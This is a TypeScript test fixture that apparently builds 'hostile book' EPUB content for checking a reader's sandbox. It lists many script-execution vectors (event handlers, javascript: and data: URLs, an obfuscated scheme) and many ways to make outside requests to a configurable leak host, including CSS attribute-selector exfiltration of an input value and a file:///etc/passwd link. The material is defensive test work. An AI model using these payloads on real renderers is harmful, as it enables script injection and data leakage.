/** What a script of a hostile book does if it runs: the host's window shows it. */
export const RUN = "top.ran=(top.ran||0)+1;top.document.title='taken'";
const DATA_SCRIPT = `data:text/javascript,${encodeURIComponent(RUN)}`;

/** The contents of hostile books: parts of pages, and files beside them. */
export interface Hostilities {
  /** Everything that may run a script. */
  readonly scripts: string;
  /** Elements and styles that request something from another host. */
  readonly remote: string;
  /** The same for a head. */
  readonly head: string;
  /** Links and a form that navigate away when they are pressed; each has an id. */
  readonly links: string;
  readonly files: Readonly<Record<string, string>>;
}

/** @param leak address that the book tries to reach, without a trailing slash */
export const hostilities = (leak: string): Hostilities => ({
  scripts: `
  <script>${RUN}</script>
  <script src="${DATA_SCRIPT}"></script>
  <script src="run.js"></script>
  <script type="module">${RUN}</script>
  <script type="module" src="run.js"></script>
  <script type="importmap">{ "imports": { "x": "${DATA_SCRIPT}" } }</script><script type="module">import 'x'</script>
  <script type="speculationrules">{ "prefetch": [{ "urls": ["${leak}/speculated"] }] }</script>
  <img src="nothing.png" onerror="${RUN}"/>
  <svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"><script>${RUN}</script>
    <foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="${RUN}"/></foreignObject>
    <animate onbegin="${RUN}" attributeName="x" dur="1s"/></svg>
  <iframe srcdoc="&lt;script&gt;${RUN}&lt;/script&gt;"></iframe>
  <iframe src="javascript:${RUN}"></iframe>
  <object data="data:text/html,&lt;script&gt;${RUN}&lt;/script&gt;"></object>
  <embed src="data:text/html,&lt;script&gt;${RUN}&lt;/script&gt;"/>
  <details open="" ontoggle="${RUN}"><summary>s</summary></details>
  <input autofocus="" onfocus="${RUN}"/>`,
  remote: `
  <img src="${leak}/img.png"/><img srcset="${leak}/srcset.png 1x"/>
  <picture><source srcset="${leak}/picture.png"/><img src="//leak.invalid/relative.png"/></picture>
  <video src="${leak}/v.mp4" poster="${leak}/poster.png" autoplay=""></video>
  <audio src="${leak}/a.mp3" autoplay=""></audio>
  <video autoplay=""><source src="${leak}/source.mp4"/><track src="${leak}/t.vtt" default=""/></video>
  <object data="${leak}/object"></object><embed src="${leak}/embed"/><iframe src="${leak}/frame"></iframe>
  <input type="image" src="${leak}/input.png"/>
  <table background="${leak}/table.png"><tr><td>t</td></tr></table>
  <svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9">
    <image href="${leak}/svg.png" width="9" height="9"/><image xlink:href="${leak}/xlink.png" width="9" height="9"/>
    <use href="${leak}/use.svg#a"/><filter id="f"><feImage href="${leak}/fe.png"/></filter>
    <rect filter="url(${leak}/filter.svg#f)" mask="url(${leak}/mask.svg#m)" fill="url(${leak}/fill.svg#p)" width="9" height="9"/>
    <image width="9" height="9"><set attributeName="href" to="${leak}/set.png"/></image></svg>
  <p style="background:url(${leak}/style.png)">p</p>
  <p style="background:u\\72l(${leak}/escaped.png)">p</p>
  <p style="background:image-set('${leak}/imageset.png' 1x)">p</p>
  <p class="font">font</p><p class="bg">bg</p><input class="exfil" value="secret"/>
  <a ping="${leak}/ping" href="#s1" id="ping">ping</a>`,
  head: `
  <base href="${leak}/base/"/>
  <meta http-equiv="refresh" content="0;url=${leak}/refresh"/>
  <meta http-equiv="Link" content="&lt;${leak}/metalink.css&gt;; rel=stylesheet"/>
  <link rel="stylesheet" href="${leak}/link.css"/>
  <link rel="prefetch" href="${leak}/prefetch"/><link rel="preload" as="image" href="${leak}/preload.png"/>
  <link rel="dns-prefetch" href="${leak}"/><link rel="preconnect" href="${leak}"/>
  <link rel="modulepreload" href="${leak}/preload.js"/>
  <link rel="icon" href="${leak}/icon.png"/><link rel="manifest" href="${leak}/manifest.json"/>
  <link rel="stylesheet" href="local.css"/>
  <style>@import url(${leak}/import.css); @import "${leak}/import2.css" screen; @import/**/url(${leak}/import3.css);
    @\\69mport url(${leak}/import4.css);
    @font-face { font-family: leaky; src: url(${leak}/font.woff2) }
    .font { font-family: leaky } .bg { background: url(${leak}/bg.png); cursor: url(${leak}/cursor.png), auto }
    .bg::before { content: url(${leak}/content.png) } li { list-style: url(${leak}/list.png) }
    input[value^="s"] { background: url(${leak}/exfil?s) }
    p { border-image: url("${leak}/border.png") 1; mask-image: url('${leak}/maskimage.png') }</style>`,
  links: `
  <a id="top" href="${leak}/top" target="_top">top</a><a id="blank" href="${leak}/blank" target="_blank">blank</a>
  <a id="js" href="javascript:${RUN}">js</a><a id="tab" href="java&#9;script:${RUN}">js</a>
  <a id="data" href="data:text/html,x" target="_top">data</a><a id="file" href="file:///etc/passwd">file</a>
  <form id="form" action="${leak}/form" method="post" target="_top"><input name="a" value="b"/><button id="send">send</button></form>
  <svg xmlns="http://www.w3.org/2000/svg"><a id="svg" href="javascript:${RUN}"><text y="9">svg</text></a></svg>`,
  files: {
    'EPUB/run.js': RUN,
    'EPUB/local.css': `@import url(${leak}/nested.css); body { background: url(${leak}/local.png) }`,
  },
});
